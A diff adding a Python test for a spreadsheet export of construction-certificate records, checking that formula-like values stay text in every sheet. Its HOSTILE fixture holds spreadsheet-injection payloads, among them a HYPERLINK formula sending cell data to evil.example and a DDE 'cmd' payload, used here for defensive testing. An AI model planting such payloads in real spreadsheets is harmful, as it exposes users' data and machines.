@@ -138,3 +138,52 @@ def test_consolidation_has_a_sheet_per_department_a_summary_and_statistics():
     values = [c.value for row in wb["统计"].iter_rows() for c in row]
     assert "一级建造师（建筑工程）" in values
     assert "成都市" in values
+
+
+HOSTILE = {
+    "name": "=1+1",
+    "id_number": "-510104",
+    "certificate_number": "+86",
+    "certificate_title": "@SUM(A1)",
+    "registered_unit": '=HYPERLINK("http://evil.example/?x="&C6,"点击")',
+    "actual_unit": "\t=2+3",
+    "unit_name": "\r=cmd|' /C calc'!A0",
+    "unit_uscc": "=91510000",
+    "self_correction": "-2+3",
+    "penalty": "=2+3",
+    "remarks": "+补报",
+}
+
+
+def assert_cells_are_text(cells, expected):
+    for cell, value in zip(cells, expected, strict=True):
+        assert cell.data_type == "s", (cell.coordinate, cell.value)
+        # XML itself reads a bare CR back as LF; the text is otherwise untouched.
+        assert cell.value == value.replace("\r", "\n")
+
+
+def test_texts_that_look_like_formulas_stay_text_in_every_sheet():
+    """Values starting with = + - @ tab or CR are stored as strings, unchanged, never formulas."""
+    keys = [column.key for column in layout.COLUMNS][1:]
+    expected = [HOSTILE[key] for key in keys]
+    ws = read(annex1_workbook(sheet([HOSTILE]))).active
+    assert_cells_are_text(ws[6][1:], expected)
+
+    departments = [SheetData(agency_name="=部门", rows=[HOSTILE], sheet_title="住建")]
+    summary = SheetData(agency_name="四川省住房和城乡建设厅", rows=[HOSTILE], sheet_title="汇总")
+    stats = Statistics(
+        by_department=[
+            {"department": "=住建", "category": "@类别", "measure": "+撤销注册", "count": 1}
+        ],
+        by_prefecture=[{"prefecture": "-成都市", "count": 1}],
+    )
+    wb = read(consolidation_workbook(departments=departments, summary=summary, stats=stats))
+    for name in ("住建", "汇总"):
+        assert_cells_are_text(wb[name][6][1:], expected)
+    assert wb["住建"]["A3"].value == "报送部门：=部门"
+    values = {(c.value, c.data_type) for row in wb["统计"].iter_rows() for c in row if c.value}
+    for text in ("=住建", "@类别", "+撤销注册", "-成都市"):
+        assert (text, "s") in values
+    assert not any(
+        c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row
+    )
